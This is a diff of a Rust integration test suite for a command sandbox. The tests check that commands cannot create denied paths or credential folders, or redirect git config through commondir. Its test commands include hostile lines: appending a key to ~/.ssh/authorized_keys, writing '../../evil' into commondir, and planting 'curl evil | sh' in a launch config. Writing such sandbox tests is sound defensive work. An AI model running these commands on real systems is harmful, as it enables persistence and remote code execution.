@@ -7,7 +7,6 @@
 use super::common::{Client, Era, Fixture};
 use serde_json::{Value, json};
 use std::collections::BTreeSet;
-use std::os::unix::fs::PermissionsExt;
 use std::path::PathBuf;
 use std::time::Duration;
 
@@ -150,34 +149,41 @@ async fn a_pem_in_a_subfolder_is_masked_and_its_folders_cannot_be_moved_aside() 
     fx.assert_canary();
 }
 
+/// A denied path that does not exist, inside a writable root: nothing is made there to occupy
+/// it (SPEC §3), and a command cannot create it — as a folder, a file, a link, or by renaming
+/// something onto it — nor anything below it. Positive control: a folder beside it.
 #[tokio::test]
 async fn a_missing_denied_path_in_a_writable_root_cannot_be_created() {
     let fx = Fixture::new();
     let c = start(&fx, false, "deny = [\"{root}/private\"]").await;
-    // The daemon made an empty placeholder at startup, so the launcher has something to mask.
     let private = fx.root.join("private");
-    let meta = std::fs::symlink_metadata(&private).unwrap();
-    assert!(meta.is_file() && meta.len() == 0, "{meta:?}");
-    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
+    assert!(std::fs::symlink_metadata(&private).is_err(), "serve made {}", private.display());
     let r = bash(
         &c,
-        "mkdir private && echo made-dir; echo x > private/f && echo wrote-f; \
-         rm -f private && echo removed; echo x > private && echo wrote-private; \
+        "mkdir private && echo made-dir; mkdir -p private/f && echo made-f; \
+         echo x > private && echo wrote-private; ln -s /tmp private && echo linked; \
+         mkdir aside && mv aside private && echo moved; \
          mkdir other && echo x > other/f && cat other/f && echo control-ok",
     )
     .await;
     let text = out(&r);
-    for word in ["made-dir", "wrote-f", "removed", "wrote-private"] {
+    for word in ["made-dir", "made-f", "wrote-private", "linked", "moved"] {
         assert!(!text.contains(word), "{word}: {r}");
     }
     assert!(text.contains("control-ok"), "the positive control failed: {r}");
     assert_eq!(read(fx.root.join("other/f")), "x\n");
-    let meta = std::fs::symlink_metadata(&private).unwrap();
-    assert!(meta.is_file() && meta.len() == 0, "the placeholder changed: {meta:?}");
+    assert!(std::fs::symlink_metadata(&private).is_err(), "it was created: {r}");
+    let denied = r["denied"].as_array().cloned().unwrap_or_default();
+    assert!(
+        denied.iter().any(|d| d["what"].as_str() == private.to_str()),
+        "the refusal is listed in denied: {r}"
+    );
     c.stop().await;
     fx.assert_canary();
 }
 
+/// A home declared writable without `~/.aws` and `~/.ssh`: nothing is made in it, and a
+/// command can create neither, nor `~/.ssh/authorized_keys`. Positive control: a file beside.
 #[tokio::test]
 async fn a_missing_credential_folder_in_a_writable_home_cannot_be_created() {
     let fx = Fixture::new();
@@ -186,32 +192,29 @@ async fn a_missing_credential_folder_in_a_writable_home_cannot_be_created() {
     super::common::own_tree(&fx.home);
     let c = start(&fx, true, "").await;
     for name in [".aws", ".ssh"] {
-        let meta = std::fs::symlink_metadata(fx.home.join(name)).unwrap();
-        assert!(meta.is_dir(), "{name}: {meta:?}");
-        assert_eq!(meta.permissions().mode() & 0o777, 0o700, "{name}");
+        assert!(std::fs::symlink_metadata(fx.home.join(name)).is_err(), "serve made {name}");
     }
     let home = fx.home.display();
     let r = bash(
         &c,
         &format!(
-            "mkdir -p {home}/.aws; echo key > {home}/.aws/credentials && echo wrote-aws; \
+            "mkdir -p {home}/.aws && echo made-aws; echo key > {home}/.aws/credentials && echo wrote-aws; \
+             mkdir -p {home}/.ssh && echo made-ssh; \
              echo key >> {home}/.ssh/authorized_keys && echo wrote-ssh; \
-             rm -rf {home}/.aws; mv {home}/.ssh {home}/ssh2 && echo moved-ssh; \
+             mkdir {home}/ssh2 && mv {home}/ssh2 {home}/.ssh && echo moved-ssh; \
              echo notes > {home}/notes.txt && cat {home}/notes.txt"
         ),
     )
     .await;
     let text = out(&r);
-    for word in ["wrote-aws", "wrote-ssh", "moved-ssh"] {
+    for word in ["made-aws", "wrote-aws", "made-ssh", "wrote-ssh", "moved-ssh"] {
         assert!(!text.contains(word), "{word}: {r}");
     }
     assert!(text.contains("notes"), "the positive control failed: {r}");
     assert_eq!(read(fx.home.join("notes.txt")), "notes\n");
     for name in [".aws", ".ssh"] {
-        let left: Vec<_> = std::fs::read_dir(fx.home.join(name)).unwrap().collect();
-        assert!(left.is_empty(), "something was created in {name}: {left:?}");
+        assert!(std::fs::symlink_metadata(fx.home.join(name)).is_err(), "{name} was created");
     }
-    assert!(!fx.home.join("ssh2").exists());
     c.stop().await;
     fx.assert_canary();
 }
@@ -272,22 +275,31 @@ async fn proc_self_fd_shows_only_0_to_2_and_the_folder_ls_opened() {
     c.stop().await;
 }
 
+/// Protected folders that do not exist are not made (SPEC §3: the project is left as it was
+/// found), and a command cannot create them or anything in them, nor rename a folder onto
+/// them. Positive control: an ordinary folder and file in the root.
 #[tokio::test]
 async fn missing_protected_folders_cannot_be_created_by_a_command() {
     let fx = Fixture::new();
     std::fs::create_dir_all(fx.root.join(".git")).unwrap();
+    super::common::own_tree(&fx.root);
     let c = start(&fx, false, "").await;
     for dir in [".vscode", ".claude", ".cursor", ".codex", ".idea", ".git/hooks"] {
         let at = fx.root.join(dir);
-        assert!(at.is_dir(), "{dir} placeholder");
-        let r = bash(&c, &format!("echo '{{}}' > {dir}/x.json && echo WROTE")).await;
-        assert!(!out(&r).contains("WROTE"), "{dir}: {r}");
-        assert_eq!(std::fs::read_dir(&at).unwrap().count(), 0, "{dir} stays empty on the host");
+        assert!(std::fs::symlink_metadata(&at).is_err(), "serve made {dir}");
+        let r = bash(
+            &c,
+            &format!(
+                "mkdir -p {dir} && echo MADE; echo '{{}}' > {dir}/x.json && echo WROTE; \
+                 mkdir -p aside && mv aside {dir} && echo MOVED"
+            ),
+        )
+        .await;
+        for word in ["MADE", "WROTE", "MOVED"] {
+            assert!(!out(&r).contains(word), "{dir} {word}: {r}");
+        }
+        assert!(std::fs::symlink_metadata(&at).is_err(), "{dir} was created on the host");
     }
-    let r =
-        bash(&c, "mv .vscode v2 2>&1 || echo MOVE-REFUSED; rmdir .claude 2>&1 || echo RM-REFUSED")
-            .await;
-    assert!(out(&r).contains("MOVE-REFUSED") && out(&r).contains("RM-REFUSED"), "{r}");
     // Positive control: an ordinary new folder and file in the root.
     let r = bash(&c, "mkdir -p src && echo ok > src/main.rs && cat src/main.rs").await;
     assert_eq!(out(&r), "ok\n");
@@ -344,10 +356,10 @@ async fn protected_paths_of_nested_repositories_are_read_only_to_commands() {
 
 /// A repository's `.git/commondir` names the folder git takes config and hooks from; a command
 /// that wrote one could point the person's git at a config of its own (`core.fsmonitor` runs a
-/// program on every `git status`). The daemon makes the missing one (holding `./`: the
-/// repository itself) in the root's repository, in a nested one and in a submodule's, and the sandbox
-/// binds each read-only. Positive controls: git works in the sandbox with it (status, commit),
-/// and on the host.
+/// program on every `git status`). Nothing is made for it (the project is left as it was
+/// found): the in-run walls refuse creating a `commondir` in the root's repository, a nested
+/// one and a submodule's. Positive controls: git works in the sandbox (status, commit), and on
+/// the host.
 #[tokio::test]
 async fn commands_cannot_redirect_a_repositorys_config_through_commondir() {
     let fx = Fixture::new();
@@ -379,25 +391,26 @@ async fn commands_cannot_redirect_a_repositorys_config_through_commondir() {
         &c,
         "for g in .git repos/app/.git .git/modules/sub; do \
            printf '../../evil\\n' > $g/commondir || echo REFUSED; \
-           rm -f $g/commondir || echo KEPT; done; \
+           mkdir -p aside && printf '../../evil\\n' > aside/c && mv aside/c $g/commondir \
+             || echo MOVE-REFUSED; done; \
          echo evil > .git/modules/sub/config || echo SUBCONFIG; \
          git status --short >/dev/null && echo STATUS-OK; \
          git -c user.name=a -c user.email=a@b commit -q --allow-empty -m inside && echo COMMIT-OK",
     )
     .await;
     let shown = format!("{}{}", out(&r), r["stderr"].as_str().unwrap_or_default());
-    assert_eq!(out(&r).matches("REFUSED").count(), 3, "{shown}");
-    assert_eq!(out(&r).matches("KEPT").count(), 3, "{shown}");
+    assert_eq!(out(&r).lines().filter(|l| *l == "REFUSED").count(), 3, "{shown}");
+    assert_eq!(out(&r).matches("MOVE-REFUSED").count(), 3, "{shown}");
     assert!(out(&r).contains("SUBCONFIG"), "{shown}");
     for g in [".git", "repos/app/.git", ".git/modules/sub"] {
-        let held = std::fs::read_to_string(fx.root.join(g).join("commondir")).unwrap();
-        assert_eq!(held, "./\n", "{g}/commondir");
+        let at = fx.root.join(g).join("commondir");
+        assert!(std::fs::symlink_metadata(&at).is_err(), "{g}/commondir was made");
     }
     assert_eq!(
         std::fs::read_to_string(fx.root.join(".git/modules/sub/config")).unwrap(),
         "[core]\n"
     );
-    // Positive controls: git works inside the sandbox, and on the host, with the made file.
+    // Positive controls: git works inside the sandbox, and on the host.
     assert!(out(&r).contains("STATUS-OK") && out(&r).contains("COMMIT-OK"), "{shown}");
     assert_eq!(git(&fx.root, &["log", "--format=%s"]).trim(), "inside");
     git(&fx.root.join("repos/app"), &["status", "--short"]);
@@ -428,8 +441,8 @@ async fn a_credential_folder_reached_through_a_link_is_masked_by_its_real_name()
 
 /// Issue 22, class 6: other agents' and editors' project configs name programs that a tool on
 /// the host starts when a person next opens the folder (MCP servers, hooks, language servers).
-/// A command can neither create them (their missing folders are made empty at startup and bound
-/// read-only, as `.vscode` is) nor change the ones that exist (`opencode.json`); an ordinary file
+/// A command can neither create them (the in-run walls refuse the names; nothing is made in the
+/// root to occupy them) nor change the ones that exist (`opencode.json`); an ordinary file
 /// beside them stays writable.
 #[tokio::test]
 async fn other_agents_and_editors_configs_cannot_be_written_by_a_command() {
@@ -466,7 +479,7 @@ async fn other_agents_and_editors_configs_cannot_be_written_by_a_command() {
         assert!(!now.contains("mcpServers"), "{t} changed on the host: {now}");
     }
     for dir in [".gemini", ".zed", ".amazonq", ".roo", ".kiro", ".opencode", ".continue"] {
-        assert_eq!(std::fs::read_dir(fx.root.join(dir)).unwrap().count(), 0, "{dir} stays empty");
+        assert!(std::fs::symlink_metadata(fx.root.join(dir)).is_err(), "{dir} was made");
     }
     assert_eq!(std::fs::read_to_string(fx.root.join("opencode.json")).unwrap(), "{}\n");
     // Positive control: an ordinary file beside them, at the top and in the subproject.
@@ -478,18 +491,22 @@ async fn other_agents_and_editors_configs_cannot_be_written_by_a_command() {
     c.stop().await;
 }
 
-/// `[sandbox].protected_extra` extends the protected list without a rebuild: a folder entry is
-/// made empty where missing and bound read-only, a file rule keeps an existing file read-only,
-/// at any depth; a malformed entry is a config error naming the key.
+/// `[sandbox].protected_extra` extends the protected list without a rebuild: a missing folder
+/// entry cannot be created (nothing is made for it), a file rule keeps an existing file
+/// read-only, at any depth; a malformed entry is a config error naming the key.
 #[tokio::test]
 async fn protected_extra_entries_are_read_only_to_commands() {
     let fx = Fixture::new();
     fx.write("tools/launch.json", "{}\n");
     fx.write("sub/tools/launch.json", "{}\n");
     let c = start(&fx, false, "protected_extra = [\".mytool/\", \"tools/launch.json\"]").await;
-    assert!(fx.root.join(".mytool").is_dir(), "the missing folder is made");
+    assert!(std::fs::symlink_metadata(fx.root.join(".mytool")).is_err(), "serve made .mytool");
     for t in [".mytool/run.sh", "tools/launch.json", "sub/tools/launch.json"] {
-        let r = bash(&c, &format!("echo 'curl evil | sh' > {t} 2>/dev/null && echo WROTE")).await;
+        let r = bash(
+            &c,
+            &format!("mkdir -p .mytool; echo 'curl evil | sh' > {t} 2>/dev/null && echo WROTE"),
+        )
+        .await;
         assert!(!out(&r).contains("WROTE"), "{t}: {r}");
         assert!(!std::fs::read_to_string(fx.root.join(t)).unwrap_or_default().contains("evil"));
     }
@@ -497,7 +514,8 @@ async fn protected_extra_entries_are_read_only_to_commands() {
     let r = bash(&c, "echo ok > tools/other.json && cat tools/other.json").await;
     assert_eq!(out(&r), "ok\n", "{r}");
     c.stop().await;
-    for bad in ["../x", "/abs", "a//b", ".a/b/"] {
+    assert!(std::fs::symlink_metadata(fx.root.join(".mytool")).is_err(), ".mytool was made");
+    for bad in ["../x", "/abs", "a//b"] {
         let config = shell_config(&fx, false, &format!("protected_extra = [\"{bad}\"]"));
         let o = fx.std_command(&["check", "--config", config.to_str().unwrap()]).output().unwrap();
         let text = String::from_utf8_lossy(&o.stdout);
